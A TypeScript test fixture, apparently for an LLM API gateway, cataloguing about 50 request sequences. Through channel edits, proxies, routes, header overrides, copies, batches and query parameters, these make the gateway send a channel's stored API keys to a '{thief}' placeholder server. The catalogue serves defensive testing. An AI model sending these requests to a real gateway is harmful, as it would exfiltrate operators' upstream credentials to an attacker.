/**
 * Ways in which an administrator who may edit channels could make the gateway send stored secrets of a
 * channel to a server of their own.
 */

export interface ChannelWrite {
  readonly name: string
  /** Kind of the attacked channel; default: an ordinary one. */
  readonly type?: 'openai' | 'custom' | 'advanced' | 'codex' | 'masked proxy'
  readonly steps: readonly WriteStep[]
}

/**
 * Placeholders: `{id}` is the channel, `{thief}` the attacker's server, `{copy}` the channel that an earlier
 * step created.
 */
export interface WriteStep {
  readonly method: 'POST' | 'PUT' | 'GET'
  readonly path: string
  readonly body?: Readonly<Record<string, unknown>>
}

const put = (body: Readonly<Record<string, unknown>>): WriteStep => ({
  method: 'PUT',
  path: '/api/channel',
  body: { id: '{id}', ...body },
})
const post = (path: string, body: Readonly<Record<string, unknown>> = {}): WriteStep => ({
  method: 'POST',
  path,
  body,
})
const get = (path: string): WriteStep => ({ method: 'GET', path })
const json = (value: unknown): string => JSON.stringify(value)

export const OWN_KEY = 'sk-key-of-the-attacker-0000'
const tag = 'attacked'
const thiefRoute = {
  incoming_path: '/v1/chat/completions',
  upstream_path: '{thief}/v1/chat/completions',
  auth: { type: 'bearer' },
}
const otherKey = { auth: { type: 'query', name: 'k', value: '{api_key}' } }

const addresses: readonly ChannelWrite[] = [
  { name: 'the address alone', steps: [put({ base_url: '{thief}' })] },
  { name: 'the address with an empty key', steps: [put({ base_url: '{thief}', key: '' })] },
  { name: 'the address with a blank key', steps: [put({ base_url: '{thief}', key: ' \n ' })] },
  {
    name: 'the address with the preview of the key',
    steps: [put({ base_url: '{thief}', key: '{preview}' })],
  },
  { name: 'the address with a path', steps: [put({ base_url: '{thief}/v1' })] },
  { name: 'the address with blanks around it', steps: [put({ base_url: '  {thief}/  ' })] },
  { name: 'the address behind a user name', steps: [put({ base_url: '{thief@}' })] },
  {
    name: 'the address under other spellings',
    steps: [put({ Base_url: '{thief}', baseUrl: '{thief}', 'base-url': '{thief}' })],
  },
  { name: 'the address with a change of status', steps: [put({ base_url: '{thief}', status: 1 })] },
  {
    name: 'the address in two steps',
    steps: [put({ name: 'x' }), put({ base_url: '{thief}' }), put({ status: 1 })],
  },
  {
    name: 'another type at an own address',
    steps: [put({ type: 8, base_url: '{thief}/v1/chat/completions' })],
  },
  {
    name: 'another type first, its address later',
    steps: [put({ type: 8, base_url: '{home}' }), put({ base_url: '{thief}' })],
  },
  {
    name: 'another type with routes',
    steps: [put({ type: 58, setting: json({ advanced_routes: [thiefRoute] }) })],
  },
  {
    name: 'a host named by the model',
    type: 'custom',
    steps: [put({ base_url: 'http://{model}/', models: 'gpt-4o,{thiefhost}' })],
  },
]

const settings: readonly ChannelWrite[] = [
  { name: 'a proxy', steps: [put({ setting: json({ proxy: '{thief}' }) })] },
  {
    name: 'a proxy beside other settings',
    steps: [put({ setting: json({ force_format: true, proxy: '{thief}', x: 1 }) })],
  },
  { name: 'a proxy said twice', steps: [put({ setting: '{"proxy":"","proxy":"{thief}"}' })] },
  { name: 'a proxy with blanks', steps: [put({ setting: json({ proxy: '  {thief} ' }) })] },
  {
    name: 'a proxy with the mask of the stored login',
    type: 'masked proxy',
    steps: [put({ setting: json({ proxy: '{thief***}' }) })],
  },
  {
    name: 'the stored login of a proxy at another one, with an own key',
    type: 'masked proxy',
    steps: [
      put({
        key: OWN_KEY,
        header_override: '',
        param_override: '',
        setting: json({ proxy: '{thief***}' }),
      }),
    ],
  },
  {
    name: 'the proxy of a tag',
    steps: [
      put({ tag }),
      { method: 'PUT', path: '/api/channel/tag', body: { tag, setting: json({ proxy: '{thief}' }) } },
    ],
  },
  {
    name: 'a route to a whole address',
    type: 'advanced',
    steps: [put({ setting: json({ advanced_routes: [thiefRoute] }) })],
  },
  {
    name: 'a route that shows the key in a query',
    type: 'advanced',
    steps: [put({ setting: json({ advanced_routes: [{ ...thiefRoute, ...otherKey }] }) })],
  },
  {
    name: 'a route to a host named by the model',
    type: 'advanced',
    steps: [
      put({
        models: 'gpt-4o,{thiefhost}',
        setting: json({ advanced_routes: [{ ...thiefRoute, upstream_path: 'http://{model}/v1' }] }),
      }),
    ],
  },
  { name: 'the address that renews a sign-in', type: 'codex', steps: [put({ other: '{thief}/token' })] },
  {
    name: 'the address that renews a sign-in, by its type again',
    type: 'codex',
    steps: [put({ type: 57, other: '{thief}/token', name: 'y' })],
  },
]

const headers: readonly ChannelWrite[] = [
  {
    name: 'a header with the key beside the address',
    steps: [put({ header_override: json({ 'X-Leak': '{api_key}' }), base_url: '{thief}' })],
  },
  { name: 'an own host', steps: [put({ header_override: json({ Host: '{thiefhost}' }) })] },
  { name: 'the stored header values, with an own key', steps: [put({ base_url: '{thief}', key: OWN_KEY })] },
  {
    name: 'the masked header values, with an own key',
    steps: [put({ base_url: '{thief}', key: OWN_KEY, header_override: json({ 'X-Team': '***' }) })],
  },
  {
    name: 'the stored override, with an own key',
    steps: [put({ base_url: '{thief}', key: OWN_KEY, header_override: '' })],
  },
  {
    name: 'the headers of a tag',
    steps: [
      put({ tag }),
      {
        method: 'PUT',
        path: '/api/channel/tag',
        body: { tag, header_override: json({ a: '{api_key}' }), base_url: '{thief}' },
      },
    ],
  },
]

const copies: readonly ChannelWrite[] = [
  {
    name: 'a copy with its own address',
    steps: [post('/api/channel/{id}/copy', { base_url: '{thief}' }), get('/api/channel/fetch_models/{copy}')],
  },
  {
    name: 'a copy that is moved',
    steps: [
      post('/api/channel/{id}/copy'),
      { ...put({ base_url: '{thief}' }), body: { id: '{copy}', base_url: '{thief}' } },
      get('/api/channel/fetch_models/{copy}'),
    ],
  },
  {
    name: 'a copy behind a proxy',
    steps: [
      post('/api/channel/{id}/copy'),
      { ...put({}), body: { id: '{copy}', setting: json({ proxy: '{thief}' }) } },
      get('/api/channel/test/{copy}'),
    ],
  },
  {
    name: 'a copy of another type',
    steps: [
      post('/api/channel/{id}/copy'),
      { ...put({}), body: { id: '{copy}', type: 8, base_url: '{thief}' } },
      get('/api/channel/fetch_models/{copy}'),
    ],
  },
  {
    name: 'a new channel with the stored key',
    steps: [
      post('/api/channel', { type: 1, name: 'n', models: 'gpt-4o', base_url: '{thief}', key: '{preview}' }),
    ],
  },
]

const several: readonly ChannelWrite[] = [
  {
    name: 'a batch with an address',
    steps: [post('/api/channel/batch/tag', { ids: ['{id}'], tag, base_url: '{thief}' })],
  },
  {
    name: 'a batch of statuses with an address',
    steps: [post('/api/channel/batch/status', { ids: ['{id}'], status: 1, base_url: '{thief}' })],
  },
  {
    name: 'models of a tag named like a host',
    steps: [
      put({ tag }),
      {
        method: 'PUT',
        path: '/api/channel/tag',
        body: { tag, models: 'gpt-4o,{thiefhost}', model_mapping: json({ 'gpt-4o': '{thiefhost}' }) },
      },
    ],
  },
  {
    name: 'an own key appended to the stored one, at an own address',
    steps: [put({ key: OWN_KEY, key_mode: 'append', base_url: '{thief}' })],
  },
  {
    name: 'an own key appended, with a proxy',
    steps: [put({ key: OWN_KEY, key_mode: 'append', setting: json({ proxy: '{thief}' }) })],
  },
  {
    name: 'keys added with an address',
    steps: [post('/api/channel/{id}/keys', { key: OWN_KEY, base_url: '{thief}' })],
  },
]

const questions: readonly ChannelWrite[] = [
  {
    name: 'a test with an address',
    steps: [get('/api/channel/test/{id}?base_url={thief}&proxy={thief}&model=gpt-4o')],
  },
  { name: 'a balance with an address', steps: [get('/api/channel/update_balance/{id}?base_url={thief}')] },
  {
    name: 'a list of models with an address',
    steps: [get('/api/channel/fetch_models/{id}?base_url={thief}')],
  },
  {
    name: 'a form without a key',
    steps: [post('/api/channel/fetch_models', { id: '{id}', type: 1, key: '', base_url: '{thief}' })],
  },
  {
    name: 'a form without a key at the stored address, through an own proxy',
    steps: [
      post('/api/channel/fetch_models', {
        type: 1,
        key: '',
        base_url: '{home}',
        setting: json({ proxy: '{thief}', advanced_routes: [thiefRoute] }),
        header_override: json({ a: '{api_key}' }),
        other: '{thief}',
      }),
    ],
  },
  {
    name: 'a form with the preview',
    steps: [
      post('/api/channel/fetch_models', { id: '{id}', type: 1, key: '{preview}', base_url: '{thief}' }),
    ],
  },
  {
    name: 'a form with the mask of a proxy',
    type: 'masked proxy',
    steps: [
      post('/api/channel/fetch_models', {
        id: '{id}',
        type: 1,
        key: OWN_KEY,
        base_url: '{thief}',
        setting: json({ proxy: '{proxy***}' }),
      }),
    ],
  },
]

export const channelWrites: readonly ChannelWrite[] = [
  ...addresses,
  ...settings,
  ...headers,
  ...copies,
  ...several,
  ...questions,
]
